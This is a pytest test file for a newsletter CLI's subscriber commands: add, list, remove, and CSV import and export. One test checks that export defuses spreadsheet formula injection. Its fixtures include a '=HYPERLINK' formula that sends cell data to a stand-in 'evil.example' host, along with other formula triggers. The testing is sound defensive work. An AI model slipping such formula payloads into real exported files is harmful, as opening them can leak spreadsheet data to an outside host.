"""`digest subscribers` against a real SQLite file: add, remove, list, import, export."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import CLI_NOW, Run


@pytest.fixture
def cfg(write_config: Callable[..., Path]) -> Path:
    return write_config()


def test_add_list_remove(cfg: Path, run_cli: Callable[..., Run]) -> None:
    assert run_cli("subscribers", "add", "Ana@Example.COM", "--name", "Ana", "--topics", "interviews,offers",
                   "--confirmed", "--config", cfg).out == "Added Ana@example.com (confirmed).\n"
    assert "already on the list" in run_cli("subscribers", "add", "ana@example.com", "--config", cfg).out
    run_cli("subscribers", "add", "bo@example.com", "--config", cfg)
    listed = run_cli("subscribers", "list", "--config", cfg)
    assert listed.out.splitlines() == ["Ana@example.com\tconfirmed\tAna\tInterviews, Offers\tweekly",
                                       "bo@example.com\tpending\t\tall topics\tweekly"]
    assert run_cli("subscribers", "list", "--status", "pending", "--config", cfg).out.splitlines() == [
        "bo@example.com\tpending\t\tall topics\tweekly"]
    assert run_cli("subscribers", "remove", "ANA@example.com", "--config", cfg).out == "Removed Ana@example.com.\n"
    gone = run_cli("subscribers", "remove", "ana@example.com", "--config", cfg)
    assert gone.code == 2 and gone.err.strip() == "Error: ana@example.com is not on the list"


@pytest.mark.parametrize(("args", "message"), [
    (("add", "not-an-address"), "Error: not a valid email address: 'not-an-address'"),
    (("add", "a@example.com", "--topics", "Cooking"), "Error: unknown topic 'Cooking'"),
    (("list", "--status", "sleeping"), "Invalid value for '--status'"),
])
def test_mistakes(cfg: Path, run_cli: Callable[..., Run], args: tuple[str, ...], message: str) -> None:
    result = run_cli("subscribers", *args, "--config", cfg)
    assert result.code == 2 and message in result.err and "Traceback" not in result.err


def test_import_reports_bad_rows_and_imports_the_rest(cfg: Path, tmp_path: Path, run_cli: Callable[..., Run]) -> None:
    data = tmp_path / "list.csv"
    data.write_bytes("\ufeffemail,name,topics\n"
                     "ana@example.com,Ana,Interviews;Offers\n"
                     "not-an-address,Bob,\n"
                     "\n"
                     "ANA@EXAMPLE.COM,Ana again,\n"
                     "cy@example.com,Cy,Cooking\n"
                     "dee@Example.com,\"Dee, Jr.\",\n"
                     "e@example.com,E,,extra\n".encode("utf-8"))
    result = run_cli("subscribers", "import", data, "--confirmed", "--config", cfg)
    assert result.code == 2
    errors = result.err.splitlines()
    assert errors[0].startswith(f"{data}: line 3: not a valid email address: 'not-an-address'")
    assert errors[1].startswith(f"{data}: line 6: unknown topic 'Cooking'")
    assert errors[2] == f"{data}: line 8: 4 columns, expected email[,name[,topics]]"
    assert "Imported 2 new as confirmed; 0 already on the list; 1 repeated in the file; 3 bad rows." in result.out
    listed = run_cli("subscribers", "list", "--config", cfg).out.splitlines()
    assert listed == ["ana@example.com\tconfirmed\tAna\tInterviews, Offers\tweekly",
                      "dee@example.com\tconfirmed\tDee, Jr.\tall topics\tweekly"]
    again = run_cli("subscribers", "import", data, "--confirmed", "--config", cfg)
    assert "Imported 0 new" in again.out and "2 already on the list" in again.out
    assert run_cli("subscribers", "list", "--config", cfg).out.splitlines() == listed


def test_export_then_import_round_trips(cfg: Path, write_config: Callable[..., Path], tmp_path: Path, run_cli: Callable[..., Run]) -> None:
    run_cli("subscribers", "add", "a@example.com", "--name", "Ä, \"quoted\"", "--topics", "Networking", "--confirmed", "--config", cfg)
    run_cli("subscribers", "add", "b@example.com", "--confirmed", "--config", cfg)
    run_cli("subscribers", "add", "pending@example.com", "--config", cfg)
    out = tmp_path / "export.csv"
    assert run_cli("subscribers", "export", out, "--config", cfg).out == f"Wrote 2 subscribers to {out}.\n"
    with out.open(newline="") as handle:
        assert next(csv.reader(handle)) == ["email", "name", "topics"]
    other = write_config(name="other.toml")
    other.write_text(other.read_text().replace("subscribers.db", "other.db"))
    assert run_cli("subscribers", "import", out, "--confirmed", "--config", other).code == 0
    first = run_cli("subscribers", "list", "--status", "confirmed", "--config", cfg).out
    assert run_cli("subscribers", "list", "--config", other).out == first
    assert "a@example.com\tconfirmed\tÄ, \"quoted\"\tNetworking" in first


def test_export_to_stdout(cfg: Path, run_cli: Callable[..., Run]) -> None:
    run_cli("subscribers", "add", "a@example.com", "--confirmed", "--config", cfg)
    assert run_cli("subscribers", "export", "--config", cfg).out == "email,name,topics\na@example.com,,\n"


def test_import_of_a_missing_or_binary_file(cfg: Path, tmp_path: Path, run_cli: Callable[..., Run]) -> None:
    missing = run_cli("subscribers", "import", tmp_path / "nope.csv", "--config", cfg)
    assert missing.code == 2 and "nope.csv: cannot read" in missing.err
    binary = tmp_path / "bin.csv"
    binary.write_bytes(b"\xff\xfe\x00\x00garbage\x80\x81")
    bad = run_cli("subscribers", "import", binary, "--config", cfg)
    assert bad.code == 2 and "Traceback" not in bad.err
    assert bad.err == f"Error: {binary}: line 1: not UTF-8 (byte 0xff at column 1); no rows were imported\n"


@pytest.mark.slow
def test_import_of_50000_rows_streams(cfg: Path, tmp_path: Path, run_cli: Callable[..., Run]) -> None:
    data = tmp_path / "big.csv"
    with data.open("w", newline="") as out:
        writer = csv.writer(out)
        for i in range(50_000):
            writer.writerow([f"Reader.{i}@Example.com", f"Reader {i}", "Interviews" if i % 3 else ""])
    result = run_cli("subscribers", "import", data, "--confirmed", "--config", cfg)
    assert result.code == 0, result.err
    assert "Imported 50000 new as confirmed" in result.out
    lines = run_cli("subscribers", "list", "--config", cfg).out.splitlines()
    assert len(lines) == 50_000 and lines[7] == "Reader.7@example.com\tconfirmed\tReader 7\tInterviews\tweekly"


@pytest.mark.parametrize(("url", "needle"), [
    ("foo://x", "[store] url 'foo://x': no database of that kind"),
    ("postgresql+nodriver://u@localhost/db", "no database of that kind"),
    ("sqlite:///{tmp}/a-file/sub/x.db", "cannot make the folder {tmp}/a-file/sub: Not a directory"),
    ("sqlite:////proc/no-such-dir/x.db", "cannot make the folder /proc/no-such-dir"),
])
def test_an_unusable_store_url_is_one_line(url: str, needle: str, tmp_path: Path, write_config: Callable[..., Path],
                                           run_cli: Callable[..., Run]) -> None:
    (tmp_path / "a-file").write_text("not a folder")
    path = write_config()
    path.write_text(path.read_text().replace(f'url = "sqlite:///{tmp_path / "subscribers.db"}"',
                                             f'url = "{url.format(tmp=tmp_path)}"'))
    for args in (("subscribers", "list"), ("subscribers", "add", "a@example.com")):
        result = run_cli(*args, "--config", path)
        assert result.code == 6, result
        assert result.err.splitlines() == [result.err.strip()] and result.err.startswith("Error: ")
        assert needle.format(tmp=tmp_path) in result.err and "Traceback" not in result.err


# ---- CSV: formula injection, decoding errors, repeats ----

def test_repeats_are_counted_as_repeats_across_import_batches(cfg: Path, tmp_path: Path, run_cli: Callable[..., Run]) -> None:
    run_cli("subscribers", "add", "known@example.com", "--config", cfg)
    data = tmp_path / "list.csv"
    rows = [f"reader{i}@example.com" for i in range(2500)]
    rows[1500] = "READER3@example.com"   # in the second batch of 1000, repeating the first
    rows[2400] = "reader1999@Example.COM"  # in the third, repeating the second
    rows[10] = rows[2000] = "known@example.com"
    data.write_text("\n".join(rows) + "\n")
    result = run_cli("subscribers", "import", data, "--confirmed", "--config", cfg)
    assert result.code == 0, result.err
    assert "Imported 2496 new as confirmed; 1 already on the list; 3 repeated in the file; 0 bad rows." in result.out


TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def test_export_neutralises_cells_a_spreadsheet_would_run(tmp_path: Path, write_config: Callable[..., Path],
                                                         run_cli: Callable[..., Run]) -> None:
    from digest.adapters.store import Store
    from digest.core.models import Consent

    cfg = write_config()
    cfg.write_text(cfg.read_text().replace('[topics]\n', '[topics]\n"Misc" = "+Misc"\n'))
    names = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1", "-2", "@SUM(A1:A9)", "\tx", "\rx", "Plain"]
    store = Store.open(f"sqlite:///{tmp_path / 'subscribers.db'}")
    try:
        for i, name in enumerate(names):
            # Store.add keeps the name as given: a database written by hand or by an older
            # version may hold what clean_name would remove.
            store.add(f"r{i}@example.com", f"r{i}@example.com", name, ("+Misc",) if i == 0 else (), confirmed=True,
                      now=CLI_NOW, consent=Consent(at=CLI_NOW, method="cli"))
    finally:
        store.close()
    assert run_cli("subscribers", "add", "=1+2@example.com", "--confirmed", "--config", cfg).code == 0
    assert run_cli("subscribers", "add", "--confirmed", "--config", cfg, "--", "-x@example.com").code == 0
    out = tmp_path / "export.csv"
    assert run_cli("subscribers", "export", out, "--config", cfg).code == 0
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))[1:]
    cells = {cell for row in rows for cell in row if cell}
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    for name in names[:-1]:
        assert "'" + name in cells, name
    assert {"Plain", "'+Misc", "'=1+2@example.com", "'-x@example.com"} <= cells
    # What we write we read back as it was (the import cleans control characters out of names).
    other = write_config(name="other.toml")
    other.write_text(cfg.read_text().replace("subscribers.db", "other.db"))
    assert run_cli("subscribers", "import", out, "--confirmed", "--config", other).code == 0
    listed = run_cli("subscribers", "list", "--config", other).out.splitlines()
    assert listed == [f"r0@example.com\tconfirmed\t{names[0]}\t+Misc\tweekly"] + [
        f"r{i}@example.com\tconfirmed\t{name.strip()}\tall topics\tweekly" for i, name in enumerate(names) if i] + [
        "=1+2@example.com\tconfirmed\t\tall topics\tweekly", "-x@example.com\tconfirmed\t\tall topics\tweekly"]


def test_a_bad_byte_is_reported_on_its_own_line_and_nothing_is_imported(cfg: Path, tmp_path: Path,
                                                                        run_cli: Callable[..., Run]) -> None:
    data = tmp_path / "list.csv"
    lines = [f"reader{i}@example.com,\"Reader\n{i}\"".encode() if i == 5 else f"reader{i}@example.com,Reader {i}".encode()
             for i in range(1, 3000)]  # one quoted name spans two lines: 3000 lines in all
    lines[1232] = "reader1233@example.com,Ren\u00e9e ".encode() + b"\xe9t\xe9"  # Latin-1 on line 1234, column 30
    data.write_bytes(b"\r\n".join(lines) + b"\r\n")
    result = run_cli("subscribers", "import", data, "--confirmed", "--config", cfg)
    assert result.code == 2 and "Traceback" not in result.err
    assert result.err.splitlines() == [f"Error: {data}: line 1234: not UTF-8 (byte 0xe9 at column 30); no rows were imported"]
    assert run_cli("subscribers", "list", "--config", cfg).out == ""



def test_lone_carriage_returns_still_end_lines(cfg: Path, tmp_path: Path, run_cli: Callable[..., Run]) -> None:
    data = tmp_path / "mac.csv"
    data.write_bytes(b"email,name\ra@example.com,A\rnot-an-address,B\rc@example.com,\"C\rD\"\r")
    result = run_cli("subscribers", "import", data, "--confirmed", "--config", cfg)
    assert result.code == 2
    assert result.err.splitlines() == [f"{data}: line 3: not a valid email address: 'not-an-address' "
                                       "(An email address must have an @-sign.)"]
    assert "Imported 2 new" in result.out
    assert run_cli("subscribers", "list", "--config", cfg).out.splitlines()[1] == "c@example.com\tconfirmed\tC D\tall topics\tweekly"
